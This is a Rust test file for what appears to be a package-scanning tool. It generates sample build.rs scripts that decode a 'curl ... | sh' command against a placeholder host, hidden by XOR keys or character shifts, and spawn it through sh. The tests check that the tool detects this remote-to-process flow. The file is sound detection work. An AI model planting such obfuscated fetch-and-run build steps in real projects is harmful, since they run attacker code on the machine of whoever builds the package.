use crate::flow::testing::found;
use crate::unpack::text_file;
use customs_model::{SinkKind, SourceKind};

const LINE: &[u8] = b"curl -s https://a.invalid/x | sh";

/// Whether a build script runs what it fetches by a line that it puts together.
fn built(code: &str) -> bool {
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
    let entries = vec![
        text_file("a-1.0.0/Cargo.toml", manifest),
        text_file("a-1.0.0/build.rs", code),
        text_file("a-1.0.0/src/lib.rs", ""),
    ];
    found(entries)
        .flows
        .iter()
        .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
}

fn hidden(key: &[u8]) -> String {
    let bytes = LINE.iter().zip(key.iter().cycle());
    let bytes: Vec<String> = bytes.map(|(byte, key)| (byte ^ key).to_string()).collect();
    format!("const D: &[u8] = &[{}];\n", bytes.join(", "))
}

const RUNS: &str = "std::process::Command::new(\"sh\").arg(\"-c\").arg(s).spawn().unwrap();";

#[test]
fn letters_that_are_counted_with_are_a_line() {
    for how in [
        "let s: String = D.iter().map(|b| (b ^ 7) as char).collect();",
        "let s: String = D.iter().copied().map(|b| char::from(b ^ 7)).collect();",
        "let v: Vec<u8> = D.iter().map(|b| b ^ 7).collect(); let s = String::from_utf8(v).unwrap();",
        "let mut s = String::new(); for b in D.iter() { s.push((b ^ 7) as char); }",
        "let mut v = Vec::new(); for i in 0..D.len() { v.push(D[i] ^ 7); } \
         let s = String::from_utf8(v).unwrap();",
    ] {
        let code = format!("{}fn main() {{ {how} {RUNS} }}", hidden(&[7]));
        assert!(built(&code), "{how}");
        // One edge changed: the key is another one.
        let other = code.replace("^ 7", "^ 8");
        assert!(!built(&other), "{how}");
    }
}

#[test]
fn a_key_that_begins_anew_is_gone_through_beside_the_bytes() {
    for how in [
        "D.iter().enumerate().map(|(i, b)| b ^ K[i % K.len()]).collect()",
        "D.iter().zip(K.iter().cycle()).map(|(a, b)| a ^ b).collect()",
    ] {
        let key = "const K: &[u8] = b\"OrDeR\";\n";
        let code = format!(
            "{key}{}fn main() {{ let v: Vec<u8> = {how}; let s = String::from_utf8(v).unwrap(); {RUNS} }}",
            hidden(b"OrDeR")
        );
        assert!(built(&code), "{how}");
        assert!(!built(&code.replace("OrDeR", "oRdEr")), "{how}");
    }
}

#[test]
fn texts_are_gone_through_by_letters_and_by_bytes() {
    let text: String = LINE.iter().map(|byte| char::from(byte + 1)).collect();
    for how in [
        "chars().map(|c| (c as u8 - 1) as char)",
        "bytes().map(|b| (b - 1) as char)",
    ] {
        let code = format!("fn main() {{ let s: String = \"{text}\".{how}.collect(); {RUNS} }}");
        assert!(built(&code), "{how}");
        assert!(!built(&code.replace("- 1", "- 2")), "{how}");
    }
}
